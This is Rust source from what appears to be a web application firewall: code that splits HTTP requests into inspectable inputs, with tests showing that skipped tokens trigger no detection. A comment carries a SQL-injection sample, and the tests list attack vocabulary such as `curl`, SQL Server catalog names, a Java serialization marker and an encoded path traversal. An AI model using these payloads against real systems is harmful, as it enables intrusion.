/// Whether `b` holds a `%` that does not start a valid `%XX` (or `%uXXXX`) escape.
pub fn has_bad_percent(b: &[u8]) -> bool {
    let mut i = 0;
    // Each `%` found eight bytes per step: most strings hold none.
    while let Some(pos) = b.get(i..).and_then(|s| crate::detect::find_byte(s, b'%')) {
        let at = i + pos;
        let h = |k: usize| b.get(at + k).is_some_and(u8::is_ascii_hexdigit);
        let ok = (h(1) && h(2))
            || (matches!(b.get(at + 1), Some(b'u' | b'U')) && h(2) && h(3) && h(4) && h(5));
        if !ok {
            return true;
        }
        i = at + 1;
    }
    false
}

/// Which headers are inspected as values, decided once per configuration: `headers.inspect`
/// and `headers.skip` as one hash table (FNV-1a, open addressing) instead of comparing every
/// header name with each of the ~60 configured names on every request.
#[derive(Debug, Clone)]
pub(crate) struct HeaderTable {
    /// Slots of (name, listed in `inspect`, listed in `skip`); at most half full.
    slots: Vec<Option<(Box<str>, bool, bool)>>,
    inspect_other: bool,
}

impl HeaderTable {
    pub(crate) fn new(h: &crate::config::HeaderConfig) -> HeaderTable {
        let names = h.inspect.len() + h.skip.len();
        let size = (names * 2).next_power_of_two().max(8);
        let mut t = HeaderTable {
            slots: vec![None; size],
            inspect_other: h.inspect_other,
        };
        for (name, listed) in h
            .inspect
            .iter()
            .map(|n| (n, true))
            .chain(h.skip.iter().map(|n| (n, false)))
        {
            let i = t.slot(name);
            if let Some(slot) = t.slots.get_mut(i) {
                let e = slot.get_or_insert_with(|| (name.as_str().into(), false, false));
                if listed {
                    e.1 = true;
                } else {
                    e.2 = true;
                }
            }
        }
        t
    }

    /// The slot holding `name`, or the empty slot where it would go.
    fn slot(&self, name: &str) -> usize {
        let mask = self.slots.len().wrapping_sub(1);
        let mut i = (Self::hash(name.as_bytes()) as usize) & mask;
        while let Some(Some((n, _, _))) = self.slots.get(i) {
            if crate::detect::same_bytes(n.as_bytes(), name.as_bytes()) {
                break;
            }
            i = (i + 1) & mask;
        }
        i
    }

    /// The slot hash of a header name from its length and four of its bytes (the first, the
    /// middle one and the last two), not from every byte: every header of every request is
    /// looked up here, and a byte-at-a-time hash (FNV-1a) was ~10 Wasm instructions a byte.
    /// Four byte loads and one multiply: ~75 Wasm instructions less per header than the
    /// first and last eight bytes as words (round 13, `healthz`: 6 lookups, -310). Names that
    /// agree on all five only share a probe sequence; the slot is still found by comparing
    /// the whole name (any hash gives the same answers: `header_table_is_the_lists`).
    fn hash(name: &[u8]) -> u64 {
        let n = name.len();
        let at = |k: usize| u64::from(name.get(k).copied().unwrap_or(0));
        let h = ((n as u64)
            | at(0) << 8
            | at(n / 2) << 16
            | at(n.wrapping_sub(1)) << 24
            | at(n.wrapping_sub(2)) << 32)
            .wrapping_mul(0x9e37_79b9_7f4a_7c15);
        h >> 40
    }

    /// Whether header `name` is inspected: listed in `inspect`, or `inspect_other` and not
    /// listed in `skip`.
    pub(crate) fn inspects(&self, name: &str) -> bool {
        match self.slots.get(self.slot(name)) {
            Some(Some((_, listed, skipped))) => *listed || (self.inspect_other && !*skipped),
            _ => self.inspect_other,
        }
    }
}

/// Decodes `req` into inputs under `cfg`'s limits and exclusions.
#[cfg(test)]
pub(crate) fn prepare<'r>(
    req: Request<'r>,
    cfg: &Config,
    excl: &dyn ExclusionLookup,
    request_excluded: CategorySet,
) -> Prepared<'r> {
    let headers = HeaderTable::new(&cfg.headers);
    prepare_with(req, cfg, &headers, excl, request_excluded, None)
}

/// [`prepare`] with the configuration's [`HeaderTable`] built already (by the engine).
///
/// `lower_body`: where the body's lowercase copy may go, so that the values cut from the
/// body share it instead of each getting a lowercase copy of its own (`None`: each value
/// with a capital is copied). The inputs are the same either way (test
/// `shared_lowercase_body_gives_the_same_inputs`).
pub(crate) fn prepare_with<'r>(
    req: Request<'r>,
    cfg: &Config,
    header_table: &HeaderTable,
    excl: &dyn ExclusionLookup,
    request_excluded: CategorySet,
    lower_body: Option<&'r OnceCell<String>>,
) -> Prepared<'r> {
    let method = req.effective_method();
    let uri = req.effective_uri();
    let (path_raw, query_raw) = uri.split_once_char('?').unwrap_or((uri, ""));
    let headers = HeaderIndex::of(req.headers);
    // A fragment is never sent by browsers; if present, it is part of the attack surface.
    let mut b = Builder {
        cfg,
        excl,
        no_arg_exclusions: excl.no_arg_exclusions(),
        // Room for the usual values (path, a few arguments, headers, cookies) without regrowing.
        inputs: Vec::with_capacity(17 + req.headers.len()),
        flags: Flags::default(),
        limit_hits: Vec::new(),
        arg_count: 0,
        lower_body: None,
        nesting: 0,
        nested_values: 0,
        nested_allowance: 0,
        nested_bytes: 0,
    };
    b.flags.invalid_percent |= has_bad_percent(path_raw.as_bytes());
    // A path with nothing to decode (most) comes with its byte set: not computed again.
    let (path, path_bytes) = b.text_and_bytes(Raw::RequestStr(path_raw), false);
    let path_bytes = path_bytes.unwrap_or_else(|| ByteSet::of(path.as_bytes()));
    let mut path_input = Input::with_value_bytes(
        Place::new(Source::Path, Text::default()),
        Text::from(path_raw),
        path.clone(),
        path_bytes,
        CategorySet::EMPTY,
    );
    // A path of plain segments is left to lfi and the request-level detectors (see
    // `plain_path`).
    if cfg.paranoia_level == 1 && plain_path(path_raw) {
        path_input.shape = crate::detect::gate::Shape::PlainPath;
    }
    b.inputs.push(path_input);
    // No query (most requests): nothing to split (`form` of nothing adds nothing).
    if !query_raw.is_empty() {
        b.form(query_raw.as_bytes(), true);
    }

    // Headers.
    let max_header = cfg.limits.header_bytes.max as usize;
    if headers.real > cfg.limits.header_count.max as usize {
        b.hit(LimitKind::HeaderCount);
    }
    for (name, value) in req
        .headers
        .iter()
        .take(cfg.limits.header_count.max as usize + 8)
    {
        if name.starts_with(':') {
            continue;
        }
        let value = if value.len() > max_header {
            b.hit(LimitKind::HeaderSize);
            truncate(value, max_header)
        } else {
            value.as_str()
        };
        if name == "cookie" {
            b.cookies(value);
            continue;
        }
        if header_table.inspects(name) {
            // An inert token fires nothing at paranoia 1 (see `inert_token`); a file name
            // header (`x-filename`, `x-file-name`, ...) is read whole by the upload rules.
            if cfg.paranoia_level == 1
                && inert_token(value)
                && !crate::detect::java::is_upload_name(Source::Header, name)
            {
                continue;
            }
            // A `User-Agent` of browser product tokens (`gate::product_user_agent`: nothing
            // to decode in one) is read by no injection detector (the `gates` test) and
            // fires no request-level rule (no `=`, control byte or NUL in one; `scanner`
            // asks the same of the header): not pushed (test `product_user_agents_fire_nothing`).
            if name == "user-agent" && crate::detect::gate::product_user_agent(value) {
                continue;
            }
            let excluded = excl.for_header(name);
            b.push(
                Source::Header,
                Text::from(name.as_str()),
                Raw::RequestStr(value),
                false,
                excluded,
            );
        }
    }

    // Body.
    let body_start = b.inputs.len();
    // `Request::media_type`, from the index.
    let media_type = headers.content_type.map(|ct| {
        ct.split_char(';')
            .next()
            .unwrap_or_default()
            .trim()
            .ascii_lower()
    });
    let mut body_kind = BodyKind::None;
    let mut multipart_info = None;
    if let Some(body) = req.body.filter(|b| !b.is_empty()) {
        let max_body = cfg.limits.body_bytes.max as usize;
        let body = if body.len() > max_body {
            b.hit(LimitKind::BodySize);
            body.get(..max_body).unwrap_or(body)
        } else {
            body
        };
        if req.body_truncated {
            b.hit(LimitKind::BodySize);
        }
        b.lower_body = lower_body.map(|cell| (body, cell));
        let mt = media_type.as_deref().unwrap_or("");
        // Without a Content-Type, a JSON document is read as one: servers that decode whatever
        // arrives (Express's `type: '*/*'`, Go's `json.NewDecoder(r.Body)`) see its members,
        // where a form reading would cut `{"q":"1' or '1'='1"}` at its `=`. Only a valid one
        // (checked first, one linear pass): nobody claimed JSON, so `{foo}` is no malformed
        // body but text, read as a form as before.
        let document = mt.is_empty() && is_document(body) && json::check(body).is_ok();
        body_kind = if document || mt.has_lit("json") {
            BodyKind::Json
        } else if mt.is_empty() || mt == "application/x-www-form-urlencoded" {
            BodyKind::Form
        } else if mt == "multipart/form-data"
            || mt == "multipart/related"
            || mt == "multipart/mixed"
        {
            BodyKind::Multipart
        } else if mt.has_lit("xml") {
            BodyKind::Xml
        } else {
            BodyKind::Raw
        };
        match body_kind {
            BodyKind::Form => b.form(body, !mt.is_empty()),
            // Checked once, then walked over the body's own bytes: no document tree.
            // One pass over the body's own bytes checks and walks it (no document tree).
            // Every object member and every array element is one value (CRS counts JSON
            // leaves as ARGS): past `limits.body_values` the rest is not inspected and the
            // limit is reported, never silently dropped. A body that turns out malformed
            // (or truncated) is inspected as one text value instead, with nothing of the
            // walk kept.
            BodyKind::Json => {
                let mark = b.mark();
                let depth = cfg.limits.json_depth.max;
                let max_values = cfg.limits.body_values.max as usize;
                let mut values = 0usize;
                // Validated once, so that a leaf without escapes is borrowed as text
                // without validating it again.
                let body_str = std::str::from_utf8(body).ok();
                b.inputs.reserve(body.len() / 8);
                // Member names repeat (every object of an array has the same ones): a name
                // read from the body as text, like one of the last few, is that name's input
                // again (the same text through the same steps gives the same input, and the
                // exclusions depend on the name alone), and is not pushed twice.
                const RECENT_KEYS: usize = 4;
                // The names pushed last (as read from the body: the raw form of their inputs).
                let mut recent_keys: [Option<&'r str>; RECENT_KEYS] = [None; RECENT_KEYS];
                let mut next_key = 0usize;
                let inert = cfg.paranoia_level == 1;
                let mut visit = |item: json::Item<'r, '_>| {
                    if item.counts_as_arg {
                        values += 1;
                        if values > max_values {
                            b.hit(LimitKind::BodyValues);
                            return false;
                        }
                    }
                    let Some(text) = item.text else {
                        return true;
                    };
                    // A deep merge follows member names as property accesses: a
                    // `"prototype"` member inside `"constructor"` reaches
                    // `Object.prototype` (prototype pollution), so that name is
                    // inspected as the path it walks.
                    // (`parent` is given for `"prototype"` keys only.)
                    let path = item.parent == "constructor";
                    // The text as a slice of the body, borrowed as it is: the walk gives it
                    // (no escapes).
                    let in_body = item.body_text;
                    // Such a name is not the plain name's input (asked before the cache, so a
                    // `"prototype"` seen elsewhere first does not stand for it).
                    let borrowed_key = in_body.filter(|_| item.is_key && !path);
                    if let Some(name) = borrowed_key {
                        let again = recent_keys.iter().any(|k| {
                            k.is_some_and(|k| {
                                k.len() == name.len()
                                    && crate::detect::same_bytes(k.as_bytes(), name.as_bytes())
                            })
                        });
                        // The same name again is the same input again (same text, same
                        // steps, exclusions by name): every detector reads each value on its
                        // own and a rule counts once per request, so a second copy can add
                        // no finding (test `repeated_member_names_add_no_finding`). Not
                        // pushed: the request's values are its distinct names.
                        if again {
                            return true;
                        }
                    }
                    // At paranoia 1 an inert name or leaf (written without escapes) is not
                    // pushed (see `inert_token`, `inert_leaf`).
                    let left = inert
                        && match (item.is_key, in_body) {
                            (true, _) => borrowed_key.is_some_and(inert_name),
                            (false, Some(s)) => inert_leaf(s),
                            (false, None) => false,
                        };
                    if !left {
                        let excluded = b.arg_excluded(item.key);
                        let source = if item.is_key {
                            Source::ArgName
                        } else {
                            Source::Arg
                        };
                        // A leaf without escapes is a slice of the body: borrowed.
                        let raw = match in_body {
                            _ if path => Raw::Temp(b"constructor.prototype"),
                            Some(s) => Raw::RequestStr(s),
                            None => Raw::Temp(text.as_bytes()),
                        };
                        // So is a key without escapes.
                        let key = item
                            .body_key
                            .map_or_else(|| Text::from(item.key.to_string()), Text::from);
                        b.push(source, key, raw, false, excluded);
                    }
                    if let Some(name) = borrowed_key {
                        if let Some(slot) = recent_keys.get_mut(next_key % RECENT_KEYS) {
                            *slot = Some(name);
                        }
                        next_key += 1;
                    }
                    true
                };
                // The body was validated above: the walk does not validate it again. A body
                // that is not UTF-8 is no JSON (every byte outside a string is ASCII, every
                // string is checked): only its error is wanted, which `check` finds where the
                // walk would (test `json_body_that_is_not_utf8_is_text`).
                let walked = match body_str {
                    Some(text) => json::walk_utf8(text, depth, &mut visit),
                    None => json::check(body).map(|()| false),
                };
                match walked {
                    Ok(truncated) => {
                        if truncated {
                            b.hit(LimitKind::JsonDepth);
                        }
                    }
                    Err(e) => {
                        b.undo(mark);
                        // Truncated or hostile JSON (incl. nesting past 128 levels,
                        // serde_json's limit): still scan it, as text.
                        if !(req.body_truncated || body.len() < req.body.map_or(0, <[u8]>::len))
                            || !e.eof
                        {
                            b.flags.body_malformed = true;
                        }
                        b.push_whole_body(body);
                    }
                }
            }
            BodyKind::Multipart => {
                let ct = headers.content_type.unwrap_or_default();
                match multipart::boundary(ct) {
                    Some(boundary) => {
                        // One part past the limit, so that `arg` sees it and reports the limit.
                        let max = cfg.limits.args.max as usize;
                        let m = multipart::parse(body, &boundary, max.saturating_add(1));
                        b.flags.body_malformed |= m.malformed;
                        for part in &m.parts {
                            b.arg(
                                Raw::Temp(part.name.as_bytes()),
                                Raw::Temp(part.value.as_bytes()),
                                false,
                            );
                            if let Some(f) = &part.filename {
                                let excluded = excl.for_arg(&part.name);
                                let f = Raw::Temp(f.as_bytes());
                                let name = Text::from(part.name.clone());
                                b.push(Source::Filename, name, f, false, excluded);
                            }
                        }
                        multipart_info = Some(m);
                    }
                    None => {
                        b.flags.body_malformed = true;
                        b.push_whole_body(body);
                    }
                }
            }
            BodyKind::Xml => {
                let text = String::from_utf8_lossy(body);
                // One value past the limit, so that the limit is reported, not silent.
                let max = cfg.limits.body_values.max as usize;
                let mut values = 0usize;
                for v in xml::values(&text, max.saturating_add(1)) {
                    values += 1;
                    if values > max {
                        b.hit(LimitKind::BodyValues);
                        break;
                    }
                    let excluded = excl.for_arg(&v.name);
                    let raw = Raw::Temp(v.value.as_bytes());
                    b.push(
                        Source::Arg,
                        Text::from(v.name.clone()),
                        raw,
                        false,
                        excluded,
                    );
                }
            }
            BodyKind::Raw | BodyKind::None => {
                b.push_whole_body(body);
            }
        }
    }

    Prepared {
        request: req,
        headers,
        method,
        uri,
        path_raw,
        query_raw,
        path,
        inputs: b.inputs,
        media_type,
        body_kind,
        multipart: multipart_info,
        flags: b.flags,
        limit_hits: b.limit_hits,
        arg_count: b.arg_count,
        excluded: request_excluded,
        body_start,
        gate: Cell::new(None),
        gates: OnceCell::new(),
    }
}

/// Whether `b` is written as a JSON object or array (`{...}` or `[...]`, surrounding
/// whitespace aside): the two bytes that decide whether [`Builder::nested_document`] walks it.
#[inline]
fn is_document(b: &[u8]) -> bool {
    // The first and last bytes first: nearly every value ends there.
    let (Some(&first), Some(&last)) = (b.first(), b.last()) else {
        return false;
    };
    if !(matches!(first, b'{' | b'[') || first.is_ascii_whitespace())
        || !(matches!(last, b'}' | b']') || last.is_ascii_whitespace())
    {
        return false;
    }
    let b = b.trim_ascii();
    matches!(
        (b.first(), b.last()),
        (Some(b'{'), Some(b'}')) | (Some(b'['), Some(b']'))
    )
}

/// A JSON number leaf (`12`, `-0.5`, `1e5`): nothing to inspect.
fn is_number(t: &str) -> bool {
    t.bytes()
        .all(|c| c.is_ascii_digit() || matches!(c, b'-' | b'+' | b'.' | b'e' | b'E'))
}

/// The range of `whole` that `part` is, when it lies inside it (a slice of it, not a copy).
fn within(whole: &[u8], part: &[u8]) -> Option<(usize, usize)> {
    let start = (part.as_ptr() as usize).checked_sub(whole.as_ptr() as usize)?;
    let end = start.checked_add(part.len())?;
    (end <= whole.len()).then_some((start, end))
}

/// The longest prefix of `s` of at most `max` bytes, on a char boundary.
pub(crate) fn truncate(s: &str, max: usize) -> &str {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_sets_short_and_long_and_lowercased() {
        let reference = |b: &[u8]| {
            let mut set = [0u64; 4];
            for &c in b {
                set[usize::from(c >> 6)] |= 1 << (c & 63);
            }
            ByteSet::from_words(set)
        };
        let mut seed = 0x5151_7a7a_0101_ffffu64;
        for n in [
            0, 1, 3, 4, 5, 7, 8, 31, 32, 33, 35, 64, 255, 256, 257, 1000, 4096,
        ] {
            for _ in 0..20 {
                let text: Vec<u8> = (0..n)
                    .map(|_| {
                        seed = crate::detect::xorshift(seed);
                        // Mostly a few bytes, sometimes any byte.
                        if seed.is_multiple_of(5) {
                            (seed >> 8) as u8
                        } else {
                            b"aZ%{\\\xc3"[(seed >> 8) as usize % 6]
                        }
                    })
                    .collect();
                assert_eq!(ByteSet::of(&text), reference(&text), "{n}");
                assert_eq!(
                    ByteSet::of(&text).ascii_lowercased(),
                    reference(&text.to_ascii_lowercase()),
                    "{n}"
                );
                assert_eq!(
                    ByteSet::of(&text).intersects(&ByteSet::ASCII_UPPERCASE),
                    text.iter().any(u8::is_ascii_uppercase)
                );
            }
        }
    }

    /// `is_subset_of`'s word tests answer as the per-word loop they replaced, on random sets
    /// that differ from a subset in one word or in none.
    #[test]
    fn subset_is_the_per_word_test() {
        let mut seed = 0x0bad_5eed_1234_5678u64;
        for _ in 0..20_000 {
            let mut word = || {
                seed = crate::detect::xorshift(seed);
                seed
            };
            let b = [word(), word(), word(), word()];
            let mut a = [b[0] & word(), b[1] & word(), b[2] & word(), b[3] & word()];
            let flip = (word() % 5) as usize;
            if let Some(w) = a.get_mut(flip) {
                *w |= 1 << (word() % 64);
            }
            let (x, y) = (ByteSet::from_words(a), ByteSet::from_words(b));
            let reference = a.iter().zip(b.iter()).all(|(a, b)| a & !b == 0);
            assert_eq!(x.is_subset_of(&y), reference, "{a:x?} {b:x?}");
        }
    }

    /// The header index found by length and bytes is the one the `match` on names found.
    /// [`HeaderTable::inspects`] answers what the configured lists say, for every listed
    /// name, names one byte off them (same length, first, middle and last bytes where the
    /// edit allows: same slot hash or a neighbour), and other names, both with
    /// `inspect_other` and without, on the default lists and on lists in one probe sequence.
    #[test]
    fn header_table_is_the_lists() {
        let d = crate::config::HeaderConfig::default();
        let crowded = crate::config::HeaderConfig {
            inspect: vec!["x-aaaa-a".into(), "x-abaa-a".into(), "x-acaa-a".into()],
            inspect_other: false,
            skip: vec!["x-aaba-a".into(), "x-aaca-a".into(), "x-aaaa-b".into()],
        };
        for base in [d, crowded] {
            for inspect_other in [true, false] {
                let cfg = crate::config::HeaderConfig {
                    inspect_other,
                    ..base.clone()
                };
                let table = HeaderTable::new(&cfg);
                let mut names: Vec<String> = cfg.inspect.iter().chain(&cfg.skip).cloned().collect();
                for n in names.clone() {
                    for k in 0..n.len() {
                        for c in [b'a', b'-', b'z', b'x'] {
                            let mut b = n.clone().into_bytes();
                            b[k] = c;
                            names.push(String::from_utf8(b).unwrap());
                        }
                    }
                    names.push(format!("{n}x"));
                    names.push(n[1..].to_string());
                }
                names.extend(["", "x", "x-user-id", "cookie", ":path"].map(String::from));
                for n in &names {
                    let listed = cfg.inspect.contains(n);
                    let skipped = cfg.skip.contains(n);
                    let want = listed || (cfg.inspect_other && !skipped);
                    assert_eq!(table.inspects(n), want, "{n:?}");
                }
            }
        }
    }

    #[test]
    fn header_index_matches_the_name_match() {
        fn reference<'a>(headers: &'a [(String, String)]) -> HeaderIndex<'a> {
            let mut x = HeaderIndex::default();
            let first = |slot: &mut Option<&'a str>, v: &'a str| {
                if slot.is_none() {
                    *slot = Some(v);
                }
            };
            for (n, v) in headers {
                let v = v.as_str();
                x.real += usize::from(!n.starts_with(':'));
                match n.as_str() {
                    "host" => first(&mut x.host, v),
                    ":authority" => first(&mut x.authority, v),
                    "content-type" => {
                        x.content_type_repeated |= x.content_type.is_some();
                        first(&mut x.content_type, v);
                    }
                    "content-length" => first(&mut x.content_length, v),
                    "transfer-encoding" => first(&mut x.transfer_encoding, v),
                    "connection" => first(&mut x.connection, v),
                    "range" => first(&mut x.range, v),
                    "accept" => first(&mut x.accept, v),
                    "referer" => first(&mut x.referer, v),
                    _ => {}
                }
            }
            x
        }
        let names = [
            "host",
            ":authority",
            "content-type",
            "content-length",
            "transfer-encoding",
            "connection",
            "range",
            "accept",
            "referer",
            "hosts",
            "hist",
            "cookie",
            "accepT",
            "content-typf",
            ":authoritx",
            "connectioN",
            "user-agent",
            "",
            "rangex",
            ":method",
            ":",
        ];
        let mut seed = 0x1234_5678_9abc_def1u64;
        for _ in 0..3000 {
            let mut headers = Vec::new();
            seed = crate::detect::xorshift(seed);
            for k in 0..seed % 9 {
                seed = crate::detect::xorshift(seed);
                let n = names[(seed % names.len() as u64) as usize];
                headers.push((n.to_string(), format!("v{k}")));
            }
            assert_eq!(
                HeaderIndex::of(&headers),
                reference(&headers),
                "{headers:?}"
            );
        }
    }

    /// Every word (`a-z`, `0-9`, `-`; up to 40 bytes) of the detectors' sources, lowercased,
    /// sorted: their literals (command names, SQL catalogs, class names...) are the vocabulary
    /// a screen that leaves values out must be proved against.
    fn detector_words() -> Vec<String> {
        let sources = [
            include_str!("../detect/generic.rs"),
            include_str!("../detect/java.rs"),
            include_str!("../detect/lfi.rs"),
            include_str!("../detect/mod.rs"),
            include_str!("../detect/php.rs"),
            include_str!("../detect/protocol.rs"),
            include_str!("../detect/rce.rs"),
            include_str!("../detect/rfi.rs"),
            include_str!("../detect/scanner.rs"),
            include_str!("../detect/session.rs"),
            include_str!("../detect/sqli/mod.rs"),
            include_str!("../detect/sqli/lexer.rs"),
            include_str!("../detect/xss.rs"),
        ];
        let mut words = std::collections::BTreeSet::new();
        for src in sources {
            let lower = src.to_ascii_lowercase();
            for w in lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-')) {
                if !w.is_empty() && w.len() <= 40 {
                    words.insert(w.to_string());
                }
            }
        }
        words.into_iter().collect()
    }

    /// The tokens [`inert_token`] lets the extractor leave out fire nothing: each, as a cookie
    /// name, a cookie value and the value of several headers, is added to a request as the
    /// input the extractor made of it before, and every detector, ungated, at paranoia 1,
    /// finds on that request exactly what it finds without it. The tokens: every word and
    /// dash-joined pair of words of the detectors' string literals (command names, SQL
    /// catalogs, class names, ...), with digits around them, and 20,000 random tokens.
    #[test]
    fn inert_tokens_fire_nothing() {
        let list = detector_words();
        let mut tokens = Vec::new();
        for (i, w) in list.iter().enumerate() {
            let next = list.get(i + 1).map_or("x", String::as_str);
            tokens.extend([
                w.clone(),
                format!("{w}-{next}"),
                format!("{w}1"),
                format!("1{w}"),
                format!("{w}-1"),
            ]);
        }
        let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789-";
        let mut seed = 0x51ed_2701_9bd3_c4a5u64;
        for _ in 0..20_000 {
            seed = crate::detect::xorshift(seed);
            let len = 1 + (seed % 40) as usize;
            let t: String = (0..len)
                .map(|_| {
                    seed = crate::detect::xorshift(seed);
                    char::from(alphabet[(seed >> 7) as usize % alphabet.len()])
                })
                .collect();
            tokens.push(t);
        }
        let engine = pl1_engine();
        let headers = hdrs(&[("host", "shop.example.com"), ("accept", "*/*")]);
        let req = Request::new("GET", "/a").with_headers(&headers);
        let base = engine.prepare(&req);
        let expected = ungated(&engine, &base);
        let mut inert = 0;
        for t in &tokens {
            if !inert_token(t) {
                continue;
            }
            inert += 1;
            let mut places = vec![
                (Source::CookieName, t.as_str()),
                (Source::Cookie, "session"),
                (Source::Cookie, t.as_str()),
                (Source::Header, "x-user-id"),
                (Source::Header, "user-agent"),
                (Source::Header, "referer"),
                (Source::Header, "x-forwarded-for"),
                (Source::Header, "x-http-method-override"),
                (Source::Header, "accept-language"),
            ];
            places.extend(arg_places(t));
            assert_leaf_fires_nothing(&engine, &base, &expected, t, &places);
        }
        // The screen lets most of them through (so the proof covers what is skipped) and
        // keeps out what the paranoia-1 gates read.
        assert!(inert > 15_000, "{inert}");
        for t in [
            "session",
            "theme",
            "dark",
            "user-00-7f3a9c2e",
            "user-00",
            "en",
        ] {
            assert!(inert_token(t), "{t}");
        }
        for t in [
            "",
            "id",
            "ls",
            "curl",
            "a--b",
            "sysobjects",
            "msdb",
            "aced0005",
            "ro0ab",
            "instance-data",
            "a_b",
            "a.b",
            "Abc",
            "a=b",
            "0x2e0x2e0x2f",
        ] {
            assert!(!inert_token(t), "{t}");
        }
        // Argument names: a session id's names are read by session's rules.
        for t in ["filter7", "category", "qty", "price", "name", "page"] {
            assert!(inert_name(t), "{t}");
        }
        for t in [
            "sid",
            "phpsessid",
            "jsessionid",
            "cfid",
            "cftoken",
            "auth-token",
            "cakephp",
        ] {
            assert!(inert_token(t) && !inert_name(t), "{t}");
        }
        for t in ["value-3-abcdef", "sports", "asc", "10", "user-07"] {
            assert!(inert_leaf(t), "{t}");
        }
    }

    /// The places an argument name or value `t` is read at: `t` as an argument name (a
    /// query's, a form's or a JSON member's), as the value of an argument named `t`, and as
    /// the value of the names the detectors read with a value (lfi's file parameters, rfi's
    /// include parameters, generic's redirect targets, protocol's `_method`, a search `q`).
    fn arg_places(t: &str) -> Vec<(Source, &str)> {
        let mut places = vec![(Source::Arg, t)];
        if inert_name(t) {
            places.push((Source::ArgName, t));
        }
        for name in [
            "file",
            "page",
            "doc",
            "download",
            "src",
            "source",
            "view",
            "read",
            "show",
            "open",
            "name",
            "lang",
            "locale",
            "skin",
            "theme",
            "style",
            "layout",
            "cat",
            "path",
            "dir",
            "include",
            "inc",
            "root",
            "template",
            "tpl",
            "module",
            "lib",
            "require",
            "load",
            "conf",
            "redirect_uri",
            "return_to",
            "_method",
            "q",
            "id",
            "url",
            "cmd",
            "exec",
            "query",
            "callback",
            "jsessionid",
            "phpsessid",
            "user-agent",
            "referer",
        ] {
            places.push((Source::Arg, name));
        }
        places
    }

    /// The engine the inert-value proofs run: default configuration at paranoia 1, where
    /// the extractor leaves inert values out.
    fn pl1_engine() -> crate::engine::Engine {
        Config {
            paranoia_level: 1,
            ..Config::default()
        }
        .compile()
        .unwrap()
    }

    /// What every detector finds in `p`, each run on its own with its gate off.
    fn ungated(
        engine: &crate::engine::Engine,
        p: &Prepared<'_>,
    ) -> Vec<Vec<crate::model::Detection>> {
        DetectorKind::ALL
            .iter()
            .map(|&k| engine.run_detector_ungated(k, p))
            .collect()
    }

    /// Adds `t` to `base` at each of `places` (one at a time, before the body and in it) as
    /// the input the extractor made of it before, and requires every detector, ungated at
    /// paranoia 1, to find `expected` (what it finds without it).
    fn assert_leaf_fires_nothing(
        engine: &crate::engine::Engine,
        base: &Prepared<'_>,
        expected: &[Vec<crate::model::Detection>],
        t: &str,
        places: &[(Source, &str)],
    ) {
        for &(source, name) in places {
            for in_body in [false, true] {
                let mut p = base.clone();
                p.inputs.push(Input::new(
                    Place::new(source, Text::from(name)),
                    Text::from(t),
                    Text::from(t),
                    CategorySet::EMPTY,
                ));
                if !in_body {
                    p.body_start = p.inputs.len();
                }
                assert_eq!(
                    ungated(engine, &p),
                    expected,
                    "{t:?} as {source:?} {name} (body {in_body})"
                );
            }
        }
    }

    /// The numbers [`inert_leaf`] lets the extractor leave out of a body or query fire
    /// nothing: JSON numbers of every form (sign, fraction, exponent, leading zeros, the
    /// lengths around the 32-byte limit; those with `+`, `E` or a fraction and an exponent are
    /// kept) and 5,000 random ones, each at the argument places of
    /// [`arg_places`], before the body and in it, every detector ungated at paranoia 1.
    #[test]
    fn inert_numbers_fire_nothing() {
        let mut numbers: Vec<String> = [
            "0",
            "-0",
            "1",
            "42",
            "10.99",
            "-1.5",
            "1e5",
            "1E5",
            "1e+5",
            "1E-5",
            "-0.5e-3",
            "0e123",
            "0e0",
            "00",
            "007",
            "1.0e10",
            "9999999999999999999999",
            "2024",
            "127",
            "169",
            "254",
            "80",
            "443",
            "8080",
            "65535",
            "4294967295",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        numbers.push("9".repeat(32));
        numbers.push("9".repeat(33));
        let mut seed = 0x2f6b_91c3_77d0_e1a5u64;
        let mut next = |n: u64| {
            seed = crate::detect::xorshift(seed);
            seed % n
        };
        for _ in 0..5_000 {
            let digits = |n: u64, next: &mut dyn FnMut(u64) -> u64| -> String {
                (0..n).map(|_| char::from(b'0' + next(10) as u8)).collect()
            };
            let mut t = String::new();
            if next(3) == 0 {
                t.push('-');
            }
            let n = 1 + next(12);
            t += &digits(n, &mut next);
            if next(2) == 0 {
                t.push('.');
                let n = 1 + next(8);
                t += &digits(n, &mut next);
            }
            if next(3) == 0 {
                t.push(if next(2) == 0 { 'e' } else { 'E' });
                match next(3) {
                    0 => t.push('+'),
                    1 => t.push('-'),
                    _ => {}
                }
                let n = 1 + next(3);
                t += &digits(n, &mut next);
            }
            numbers.push(t);
        }
        let engine = pl1_engine();
        let headers = hdrs(&[("host", "shop.example.com"), ("accept", "*/*")]);
        let req = Request::new("GET", "/a").with_headers(&headers);
        let base = engine.prepare(&req);
        let expected = ungated(&engine, &base);
        let mut left = 0;
        for t in &numbers {
            // Every number without `+`, `E` or `e` after a `.` is left out.
            let exponent = t.contains(['+', 'E']) || t.contains('.') && t.contains('e');
            assert!(inert_leaf(t) || exponent || t.len() > 32, "{t}");
            if !inert_leaf(t) {
                continue;
            }
            left += 1;
            assert_leaf_fires_nothing(&engine, &base, &expected, t, &arg_places(t));
        }
        assert!(left > 3_000, "{left}");
        for t in [
            "", "-", "1.", ".5", "..5", ".5.5", "1.e5", "+1", "0.0.0", "1..2", "-.5", "1.5e3",
            "--1.5",
        ] {
            assert!(!decimal(t), "{t}");
        }
        assert!(!decimal(&format!("{}.5", "9".repeat(31))));
    }

    /// The `User-Agent`s the extractor leaves out fire nothing: random strings of browser
    /// product pieces and of attack pieces; for each one left out, the input it was before is
    /// added back, and every detector, ungated, at every paranoia level, finds exactly what it
    /// finds without it (the scanner reads the header itself). Fails when the screen lets out
    /// a `User-Agent` that is not product tokens.
    #[test]
    fn product_user_agents_fire_nothing() {
        let pieces = [
            "Mozilla",
            "5.0",
            " ",
            "(",
            ")",
            ";",
            "X11",
            "Linux",
            "x86_64",
            "AppleWebKit",
            "537.36",
            "KHTML",
            "like",
            "Gecko",
            "Chrome",
            "126.0",
            "Safari",
            "Firefox",
            "rv:",
            "Windows",
            "NT",
            "10.0",
            "Win64",
            "x64",
            "Android",
            "Mobile",
            "iPhone",
            "CPU",
            "OS",
            "Mac",
            "Intel",
            "Version",
            "Edg",
            "/",
            ".",
